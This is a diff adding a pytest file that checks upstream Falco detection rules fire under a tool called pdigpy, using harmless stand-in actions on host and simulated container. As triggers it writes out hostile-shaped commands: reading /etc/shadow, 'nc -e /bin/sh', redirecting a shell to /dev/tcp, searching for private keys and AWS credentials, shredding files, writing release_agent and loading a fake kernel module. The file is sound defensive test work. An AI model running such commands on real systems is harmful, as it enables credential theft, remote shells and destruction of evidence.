@@ -1,0 +1,393 @@
+"""Upstream Falco rules on live programs (issue 4, part 3).
+
+Each case is a real, harmless action that the named upstream rule is meant to catch,
+run under the real ``pdigpy`` command with the upstream rules file loaded unchanged.
+Every case runs twice: on the host (no container metadata: container.id is ``host``)
+and "in a container" (pdigpy started with ECS_CONTAINER_METADATA_URI_V4 pointing at a
+local Fargate task metadata endpoint). A rule gated on the ``container`` macro must fire
+only in the container; a rule gated on ``not container`` only on the host; the others in
+both. The alert's output fields must name the process/file that did it, and the
+container pdigpy saw. docs/upstream-compat.md is the table of these results.
+"""
+
+from __future__ import annotations
+
+import os
+import pwd
+import shutil
+import sys
+import uuid
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Callable
+
+import pytest
+from conftest import Ctx
+from ecs_metadata import CONTAINER_ID, CONTAINER_NAME
+from upstream_live import (CORPUS, INCUBATING, SANDBOX, STABLE, Action, check_fields, predicate,
+                           run_upstream)
+
+pytestmark = pytest.mark.skipif(not (CORPUS / STABLE).is_file(), reason=f"upstream corpus not found at {CORPUS}")
+
+BASH = os.path.realpath(shutil.which("bash") or "/bin/bash")
+TRUE = os.path.realpath(shutil.which("true") or "/bin/true")
+IS_ROOT = os.geteuid() == 0
+
+
+def _nobody() -> pwd.struct_passwd | None:
+    try:
+        return pwd.getpwnam("nobody")
+    except KeyError:
+        return None
+
+
+NOBODY = _nobody()
+
+nonzero = predicate("non-zero", lambda v: v not in (0, None, ""))
+
+
+def need(condition: bool, why: str) -> None:
+    if not condition:
+        pytest.skip(why)
+
+
+def as_nobody(argv: list[str]) -> list[str]:
+    need(NOBODY is not None and shutil.which("setpriv") is not None and IS_ROOT,
+         "needs root, setpriv and a 'nobody' user")
+    return ["setpriv", f"--reuid={NOBODY.pw_uid}", f"--regid={NOBODY.pw_gid}", "--clear-groups", *argv]
+
+
+# --------------------------------------------------------------------------- actions
+# Each builder sets up what the action needs under ctx.work (removed after the test) and
+# returns the Action; anything created elsewhere goes to ctx.cleanup first.
+
+
+def read_shadow(c: Ctx) -> Action:
+    need(os.access("/etc/shadow", os.R_OK), "/etc/shadow not readable")
+    return Action(["cat", "/etc/shadow"], {"fd.name": "/etc/shadow", "proc.name": "cat", "evt.type": "openat"})
+
+
+def server_reads_shadow_after_startup(c: Ctx) -> Action:
+    """A 'web server' (bash named httpd) reads /etc/shadow after its first 5 seconds."""
+    need(os.access("/etc/shadow", os.R_OK), "/etc/shadow not readable")
+    httpd = c.symlink("httpd", BASH)
+    return Action([str(httpd), "-c", "sleep 5.3; read -r _ < /etc/shadow; true"],
+                  {"fd.name": "/etc/shadow", "proc.name": "httpd"}, timeout=60)
+
+
+def traversal_read(c: Ctx) -> Action:
+    raw = f"{c.work}/../../etc/passwd"  # /tmp/<dir>/../../etc/passwd is /etc/passwd
+    return Action(["cat", raw], {"fd.name": "/etc/passwd", "fd.nameraw": raw, "proc.name": "cat"})
+
+
+def web_server_spawns_shell(c: Ctx) -> Action:
+    nginx = c.symlink("nginx", BASH)
+    return Action([str(nginx), "-c", "sh -c true; true"], {"proc.name": "sh", "proc.pname": "nginx"})
+
+
+def system_user_login(c: Ctx) -> Action:
+    login = c.symlink("login", TRUE)
+    return Action(as_nobody([str(login)]), {"proc.name": "login", "user.name": "nobody"})
+
+
+def terminal_shell(c: Ctx) -> Action:
+    """A shell with a controlling terminal, started by the runtime (a bash named runc)."""
+    need(shutil.which("setsid") is not None, "needs util-linux setsid")
+    runc = c.symlink("runc", BASH)
+    return Action([str(runc), "-c", "bash -c true; true"],
+                  {"proc.name": "bash", "proc.pname": "runc", "proc.tty": nonzero}, tty=True)
+
+
+def contact_k8s_api(c: Ctx) -> Action:
+    """Connect to kubernetes.default.svc.cluster.local (a listener on 127.77.0.1). A private
+    mount namespace gives both pdigpy (which resolves the rule's domain name) and the app an
+    /etc/hosts naming it. The connection must succeed: like Falco, pdigpy gives a refused
+    connect's socket no server address."""
+    need(IS_ROOT and shutil.which("unshare") is not None, "needs root and unshare for a private /etc/hosts")
+    port = c.listener("127.77.0.1").port
+    hosts = c.work / "hosts"
+    hosts.write_text("127.0.0.1 localhost\n"
+                     "127.77.0.1 kubernetes.default.svc.cluster.local kubernetes.default.svc kubernetes\n")
+    wrap = ["unshare", "--mount", "--propagation", "private", "sh", "-c",
+            'mount --bind "$0" /etc/hosts && exec "$@"', str(hosts)]
+    return Action([BASH, "-c", f"exec 3<>/dev/tcp/kubernetes.default.svc.cluster.local/{port}"],
+                  {"fd.rport": port, "proc.name": "bash",
+                   "fd.name": predicate(f"ends with ->127.77.0.1:{port}", lambda v: v.endswith(f"->127.77.0.1:{port}"))},
+                  wrap=wrap)
+
+
+def netcat_exec(c: Ctx) -> Action:
+    nc = c.symlink("nc", TRUE)  # a stand-in named nc: never opens a socket
+    return Action([str(nc), "-e", "/bin/sh", "127.0.0.1", "4444"],
+                  {"proc.name": "nc", "proc.cmdline": "nc -e /bin/sh 127.0.0.1 4444"})
+
+
+def netcat_scan(c: Ctx) -> Action:
+    nc = c.symlink("nc", TRUE)
+    return Action([str(nc), "-z", "127.0.0.1", "1-1024"], {"proc.name": "nc"})
+
+
+def find_private_keys(c: Ctx) -> Action:
+    return Action(["find", str(c.work), "-name", "id_rsa"], {"proc.name": "find"})
+
+
+def grep_private_keys(c: Ctx) -> Action:
+    (c.work / "notes.txt").write_text("nothing to see\n")
+    return Action(["grep", "-rl", "BEGIN RSA PRIVATE", str(c.work)], {"proc.name": "grep"})
+
+
+def truncate_log(c: Ctx) -> Action:
+    need(os.access("/var/log", os.W_OK), "/var/log not writable")
+    log = Path(f"/var/log/pdigpy-test-{uuid.uuid4().hex[:12]}.log")
+    c.cleanup.append(log)
+    log.write_text("evidence\n")
+    return Action(["cp", "/dev/null", str(log)], {"fd.name": str(log), "proc.name": "cp"})
+
+
+def shred_file(c: Ctx) -> Action:
+    need(shutil.which("shred") is not None, "no shred")
+    victim = c.work / "victim.db"
+    victim.write_bytes(b"x" * 4096)
+    return Action(["shred", "-u", str(victim)], {"proc.name": "shred"})
+
+
+def symlink_shadow(c: Ctx) -> Action:
+    link = c.work / "shadow-link"
+    return Action(["ln", "-s", "/etc/shadow", str(link)],
+                  {"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": str(link), "proc.name": "ln"})
+
+
+def hardlink_shadow(c: Ctx) -> Action:
+    """ln /etc/shadow to another filesystem: the kernel refuses (EXDEV), the attempt is seen.
+    Without a second filesystem, a missing directory makes it fail (ENOENT) instead."""
+    dest = Path(f"/dev/shm/pdigpy-test-{uuid.uuid4().hex[:12]}")
+    if not (Path("/dev/shm").is_dir() and os.stat("/dev/shm").st_dev != os.stat("/etc/shadow").st_dev):
+        dest = c.work / "missing-dir" / "shadow"
+    c.cleanup.append(dest)
+    return Action(["ln", "/etc/shadow", str(dest)],
+                  {"evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": str(dest), "proc.name": "ln",
+                   "evt.type": "linkat"})
+
+
+def packet_socket(c: Ctx) -> Action:
+    need(IS_ROOT, "AF_PACKET needs CAP_NET_RAW")
+    return Action([str(c.actions), "packet-socket"],
+                  {"evt.type": "socket", "proc.name": "actions",
+                   "evt.args": predicate("names AF_PACKET", lambda v: "AF_PACKET" in v)})
+
+
+def redirect_stdout_to_socket(c: Ctx) -> Action:
+    port = c.listener().port
+    return Action([BASH, "-c", f"exec 1>/dev/tcp/127.0.0.1/{port}; echo pdigpy-redirect"],
+                  {"evt.type": "dup2", "fd.type": "ipv4", "fd.rport": port, "proc.name": "bash"})
+
+
+def init_module_garbage(c: Ctx) -> Action:
+    return Action([str(c.actions), "init-module"], {"evt.type": "init_module", "proc.name": "actions"})
+
+
+def finit_module_garbage(c: Ctx) -> Action:
+    ko = c.work / "rootkit.ko"
+    ko.write_bytes(b"\0not a kernel module\0" * 8)
+    return Action([str(c.actions), "finit-module", str(ko)], {"evt.type": "finit_module", "proc.name": "actions"})
+
+
+def write_release_agent(c: Ctx) -> Action:
+    """Write a file named release_agent (a private one, not a cgroup's)."""
+    need(IS_ROOT, "the rule wants uid 0 with CAP_SYS_ADMIN")
+    target = c.work / "release_agent"
+    return Action(["sh", "-c", 'echo /tmp/payload > "$0"', str(target)],
+                  {"fd.name": str(target), "proc.name": "sh",
+                   "thread.cap_effective": predicate("has CAP_SYS_ADMIN", lambda v: "CAP_SYS_ADMIN" in v)})
+
+
+def ptrace_attach(c: Ctx) -> Action:
+    target = c.sleeper()
+    return Action([str(c.actions), "ptrace-attach", str(target.pid)],
+                  {"proc.name": "actions", "evt.type": "ptrace",
+                   "proc.cmdline": f"actions ptrace-attach {target.pid}"})
+
+
+def ptrace_traceme(c: Ctx) -> Action:
+    return Action([str(c.actions), "ptrace-traceme"], {"proc.name": "actions", "evt.type": "ptrace"})
+
+
+def find_aws_credentials(c: Ctx) -> Action:
+    return Action(["find", str(c.work), "-path", "*/.aws/credentials"], {"proc.name": "find"})
+
+
+def exec_from_dev_shm(c: Ctx) -> Action:
+    need(Path("/dev/shm").is_dir() and os.access("/dev/shm", os.W_OK), "no writable /dev/shm")
+    need(not _noexec("/dev/shm"), "/dev/shm is mounted noexec")
+    binary = Path(f"/dev/shm/pdigpy-test-{uuid.uuid4().hex[:12]}")
+    c.cleanup.append(binary)
+    shutil.copy(TRUE, binary)
+    binary.chmod(0o755)
+    return Action([str(binary)], {"proc.exepath": str(binary)})
+
+
+def _noexec(path: str) -> bool:
+    for line in Path("/proc/mounts").read_text().splitlines():
+        parts = line.split()
+        if len(parts) >= 4 and parts[1] == path:
+            return "noexec" in parts[3].split(",")
+    return False
+
+
+# Runs inside a private network namespace (wrap): gives lo a public-looking address with
+# an SSH-ish listener on a non-standard port, and when pdigpy is asked to run "in a
+# container", an ECS metadata endpoint reachable from inside that namespace.
+_NETNS_SETUP = r'''
+ip link set lo up && ip addr add 198.51.100.7/32 dev lo || exit 97
+"$PDIGPY_TEST_PYTHON" "$PDIGPY_TEST_ECS" "$0" 198.51.100.7:4444 &
+i=0; while [ ! -s "$0" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
+[ -s "$0" ] || exit 98
+if [ -n "$ECS_CONTAINER_METADATA_URI_V4" ]; then ECS_CONTAINER_METADATA_URI_V4=$(cat "$0"); export ECS_CONTAINER_METADATA_URI_V4; fi
+exec "$@"
+'''
+
+
+def ssh_non_standard_port(c: Ctx) -> Action:
+    need(IS_ROOT and shutil.which("unshare") and shutil.which("ip") and shutil.which("ssh"),
+         "needs root, unshare, ip and ssh")
+    ready = c.work / "netns-ready"
+    wrap = ["unshare", "--net", "sh", "-c", _NETNS_SETUP, str(ready)]
+    env = {"PDIGPY_TEST_PYTHON": sys.executable,
+           "PDIGPY_TEST_ECS": str(Path(__file__).with_name("ecs_metadata.py"))}
+    argv = ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "-o", "StrictHostKeyChecking=no",
+            "-o", "UserKnownHostsFile=/dev/null", "-p", "4444", "pdigpy@198.51.100.7", "true"]
+    return Action(argv, {"proc.name": "ssh", "fd.rport": 4444, "fd.l4proto": "tcp",
+                         "fd.name": predicate("ends with ->198.51.100.7:4444",
+                                              lambda v: v.endswith("->198.51.100.7:4444"))},
+                  wrap=wrap, env=env)
+
+
+def memfd_exec(c: Ctx) -> Action:
+    return Action([str(c.actions), "memfd-exec", TRUE],
+                  {"evt.type": "execveat", "proc.exepath": predicate("a memfd", lambda v: "memfd:" in v)})
+
+
+def debugfs_version(c: Ctx) -> Action:
+    need(shutil.which("debugfs") is not None, "no debugfs")
+    return Action(["debugfs", "-V"], {"proc.name": "debugfs"})
+
+
+def chmod_setuid(c: Ctx) -> Action:
+    target = c.work / "helper"
+    target.write_bytes(b"#!/bin/sh\n")
+    return Action(["chmod", "u+s", str(target)],
+                  {"proc.name": "chmod", "evt.arg.mode": predicate("has S_ISUID", lambda v: "S_ISUID" in v)})
+
+
+def glibc_tunables(c: Ctx) -> Action:
+    return Action([TRUE], {"proc.name": "true", "proc.env": predicate("has GLIBC_TUNABLES",
+                                                                        lambda v: "GLIBC_TUNABLES=" in v)},
+                  env={"GLIBC_TUNABLES": "glibc.tune.hwcaps=-AVX2_Usable"})
+
+
+def read_proc_environ(c: Ctx) -> Action:
+    return Action(["cat", "/proc/self/environ"], {"fd.name": "/proc/self/environ", "proc.name": "cat"})
+
+
+def package_manager(c: Ctx) -> Action:
+    apt = c.symlink("apt-get", TRUE)  # a stand-in: installs nothing
+    return Action([str(apt), "install", "-y", "netcat-openbsd"], {"proc.name": "apt-get"})
+
+
+def crontab(c: Ctx) -> Action:
+    tab = c.symlink("crontab", TRUE)  # a stand-in: schedules nothing
+    return Action([str(tab), "-l"], {"proc.name": "crontab"})
+
+
+def nsenter_own_netns(c: Ctx) -> Action:
+    """setns() into the namespace it is already in: a no-op that still makes the call."""
+    need(IS_ROOT and shutil.which("nsenter") is not None, "needs root and nsenter")
+    return Action(["nsenter", "--net=/proc/self/ns/net", TRUE], {"proc.name": "nsenter", "evt.type": "setns"})
+
+
+def unprivileged_userfaultfd(c: Ctx) -> Action:
+    return Action(as_nobody([str(c.actions), "userfaultfd"]),
+                  {"proc.name": "actions", "user.name": "nobody", "evt.type": "userfaultfd"})
+
+
+# --------------------------------------------------------------------------- cases
+
+
+@dataclass(frozen=True)
+class Case:
+    """rule (in ``file``) should fire for ``build``'s action ``where``: any, container or host."""
+
+    rule: str
+    build: Callable[[Ctx], Action]
+    where: str = "any"
+    file: str = STABLE
+
+    @property
+    def id(self) -> str:
+        return f"{self.rule} [{self.build.__name__}]"
+
+
+CASES = [
+    # falco_rules.yaml (stable)
+    Case("Read sensitive file untrusted", read_shadow),
+    Case("Read sensitive file trusted after startup", server_reads_shadow_after_startup),
+    Case("Directory traversal monitored file read", traversal_read),
+    Case("Run shell untrusted", web_server_spawns_shell),
+    Case("System user interactive", system_user_login),
+    Case("Terminal shell in container", terminal_shell, "container"),
+    Case("Contact K8S API Server From Container", contact_k8s_api, "container"),
+    Case("Netcat Remote Code Execution in Container", netcat_exec, "container"),
+    Case("Search Private Keys or Passwords", find_private_keys),
+    Case("Search Private Keys or Passwords", grep_private_keys),
+    Case("Clear Log Activities", truncate_log),
+    Case("Remove Bulk Data from Disk", shred_file),
+    Case("Create Symlink Over Sensitive Files", symlink_shadow),
+    Case("Create Hardlink Over Sensitive Files", hardlink_shadow),
+    Case("Packet socket created in container", packet_socket, "container"),
+    Case("Redirect STDOUT/STDIN to Network Connection in Container", redirect_stdout_to_socket, "container"),
+    Case("Linux Kernel Module Injection Detected", init_module_garbage, "container"),
+    Case("Linux Kernel Module Injection Detected", finit_module_garbage, "container"),
+    Case("Detect release_agent File Container Escapes", write_release_agent, "container"),
+    Case("PTRACE attached to process", ptrace_attach),
+    Case("PTRACE anti-debug attempt", ptrace_traceme),
+    Case("Find AWS Credentials", find_aws_credentials),
+    Case("Execution from /dev/shm", exec_from_dev_shm),
+    Case("Disallowed SSH Connection Non Standard Port", ssh_non_standard_port),
+    Case("Fileless execution via memfd_create", memfd_exec),
+    # falco-incubating_rules.yaml
+    Case("Launch Suspicious Network Tool on Host", netcat_scan, "host", INCUBATING),
+    Case("Launch Suspicious Network Tool in Container", netcat_scan, "container", INCUBATING),
+    Case("Set Setuid or Setgid bit", chmod_setuid, "any", INCUBATING),
+    Case("Potential Local Privilege Escalation via Environment Variables Misuse", glibc_tunables, "any", INCUBATING),
+    Case("Read environment variable from /proc files", read_proc_environ, "container", INCUBATING),
+    Case("Launch Package Management Process in Container", package_manager, "container", INCUBATING),
+    Case("Schedule Cron Jobs", crontab, "any", INCUBATING),
+    # nsenter on the host is excluded by the rule (container.id=host and proc.name=nsenter)
+    Case("Change thread namespace", nsenter_own_netns, "container", INCUBATING),
+    # falco-sandbox_rules.yaml
+    Case("Unprivileged Delegation of Page Faults Handling to a Userspace Process", unprivileged_userfaultfd,
+         "any", SANDBOX),
+]
+
+
+@pytest.mark.parametrize("where", ["host", "container"])
+@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
+def test_upstream_rule_on_live_action(case: Case, where: str, ctx: Ctx, ecs_endpoint: str):
+    action = case.build(ctx)
+    run = run_upstream(action, ctx.work, case.file, ecs_endpoint if where == "container" else None)
+    assert "Traceback" not in run.stderr, run.describe()
+    assert run.returncode not in (2, 97, 98), "pdigpy or the test wrapper failed:\n" + run.describe()
+    fired = run.fired(case.rule)
+    should_fire = case.where in ("any", where)
+    if not should_fire:
+        assert not fired, f"{case.rule!r} fired {where} but is gated to {case.where}:\n" + run.describe()
+        return
+    assert fired, f"{case.rule!r} did not fire {where}:\n" + run.describe()
+    alert = fired[0]
+    expect = dict(action.expect)
+    if where == "container":
+        expect.update({"container.id": CONTAINER_ID, "container.name": CONTAINER_NAME})
+    else:
+        expect.update({"container.id": "host", "container.name": "host"})
+    problems = check_fields(alert, expect)
+    assert not problems, f"{case.rule!r}: wrong output fields: {problems}\n" + run.describe()
